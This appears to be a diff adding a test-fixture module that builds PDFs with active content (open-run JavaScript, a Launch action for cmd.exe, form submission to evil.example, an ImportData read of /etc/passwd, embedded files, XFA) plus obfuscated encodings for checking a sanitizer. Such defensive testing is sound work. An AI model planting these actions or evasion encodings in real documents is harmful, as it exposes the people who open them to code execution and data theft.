@@ -1,0 +1,101 @@
+import { PDFDocument, PDFName, PDFString, type PDFObject } from 'pdf-lib'
+
+type Build = (pdf: PDFDocument) => void
+
+const action = (pdf: PDFDocument, kind: string, more: Record<string, PDFObject | string> = {}) =>
+  pdf.context.obj({ Type: 'Action', S: kind, ...more })
+const set = (pdf: PDFDocument, name: string, value: PDFObject) => pdf.catalog.set(PDFName.of(name), value)
+const pageDict = (pdf: PDFDocument) => pdf.getPage(0).node
+const annotate = (pdf: PDFDocument, more: Record<string, PDFObject>) =>
+  pageDict(pdf).addAnnot(
+    pdf.context.register(pdf.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 9, 9], ...more })),
+  )
+
+/** What a PDF can run or carry, each in a place where viewers look for it, and the word it is refused by. */
+export const active: Readonly<Record<string, { says: string; build: Build }>> = {
+  'a script run on opening': {
+    says: 'JavaScript',
+    build: (pdf) => set(pdf, 'OpenAction', action(pdf, 'JavaScript', { JS: PDFString.of('app.alert(1)') })),
+  },
+  'a script by name': {
+    says: 'JavaScript',
+    build: (pdf) =>
+      set(pdf, 'Names', pdf.context.obj({ JavaScript: { Names: ['a', action(pdf, 'JavaScript', { JS: 'x' })] } })),
+  },
+  'a script of which the kind stands elsewhere': {
+    says: 'JavaScript',
+    build(pdf) {
+      const kind = pdf.context.register(PDFName.of('JavaScript'))
+      set(pdf, 'OpenAction', pdf.context.obj({ S: kind, JS: PDFString.of('app.alert(1)') }))
+    },
+  },
+  'a program behind a link': {
+    says: 'Launch',
+    build: (pdf) => annotate(pdf, { A: action(pdf, 'Launch', { F: PDFString.of('cmd.exe') }) }),
+  },
+  'a form that is sent on': {
+    says: 'SubmitForm',
+    build: (pdf) => annotate(pdf, { A: action(pdf, 'SubmitForm', { F: PDFString.of('http://evil.example') }) }),
+  },
+  'a form that reads a file': {
+    says: 'ImportData',
+    build: (pdf) => annotate(pdf, { A: action(pdf, 'ImportData', { F: PDFString.of('/etc/passwd') }) }),
+  },
+  'an action of a page': {
+    says: 'actions that run by themselves',
+    build: (pdf) => pageDict(pdf).set(PDFName.of('AA'), pdf.context.obj({ O: action(pdf, 'Named', { N: 'Print' }) })),
+  },
+  'an action of the document, elsewhere in the file': {
+    says: 'actions that run by themselves',
+    build: (pdf) => set(pdf, 'AA', pdf.context.register(pdf.context.obj({ WC: action(pdf, 'Named', { N: 'Print' }) }))),
+  },
+  'an embedded file': {
+    says: 'embedded files',
+    build: (pdf) => set(pdf, 'Names', pdf.context.obj({ EmbeddedFiles: { Names: [] } })),
+  },
+  'a file that a page holds': {
+    says: 'embedded files',
+    build: (pdf) => annotate(pdf, { FS: pdf.context.obj({ Type: 'Filespec', EF: {} }) }),
+  },
+  'a way into an embedded file': { says: 'GoToE', build: (pdf) => annotate(pdf, { A: action(pdf, 'GoToE') }) },
+  'a form of another kind': {
+    says: 'XFA',
+    build: (pdf) => set(pdf, 'AcroForm', pdf.context.obj({ Fields: [], XFA: ['a', PDFString.of('<xdp/>')] })),
+  },
+  'an embedded player': {
+    says: 'RichMedia',
+    build: (pdf) => annotate(pdf, { Subtype: PDFName.of('RichMedia') }),
+  },
+}
+
+/** Ways in which the same content is written, all of them read by viewers. */
+export const spellings: Readonly<Record<string, (build: Build) => Promise<Uint8Array>>> = {
+  'as it is': (build) => written(build, { useObjectStreams: false }),
+  'packed into streams of objects': (build) => written(build, { useObjectStreams: true }),
+  'with names in escapes': async (build) => escaped(await written(build, { useObjectStreams: false })),
+  'in a later version of the file': async (build) => {
+    const first = await written(() => undefined, { useObjectStreams: false })
+    const later = await written(build, { useObjectStreams: false })
+    return Buffer.concat([first, Buffer.from('\n'), Buffer.from(later)])
+  },
+  'behind a comment in each line': async (build) => {
+    const text = Buffer.from(await written(build, { useObjectStreams: false })).toString('latin1')
+    return Buffer.from(text.replaceAll(' obj\n', ' %\nobj %endobj\n'), 'latin1')
+  },
+}
+
+async function written(build: Build, options: { useObjectStreams: boolean }): Promise<Uint8Array> {
+  const pdf = await PDFDocument.create()
+  pdf.addPage()
+  build(pdf)
+  return pdf.save(options)
+}
+
+const NAMES = /\/(JavaScript|JS|Launch|SubmitForm|ImportData|AA|EmbeddedFiles|EF|GoToE|XFA|RichMedia)\b/g
+
+/** `/JavaScript` as `/#4aavaScript`. */
+function escaped(bytes: Uint8Array): Uint8Array {
+  const text = Buffer.from(bytes).toString('latin1')
+  const hidden = (name: string) => `/#${name.charCodeAt(1).toString(16)}${name.slice(2)}`
+  return Buffer.from(text.replace(NAMES, hidden), 'latin1')
+}
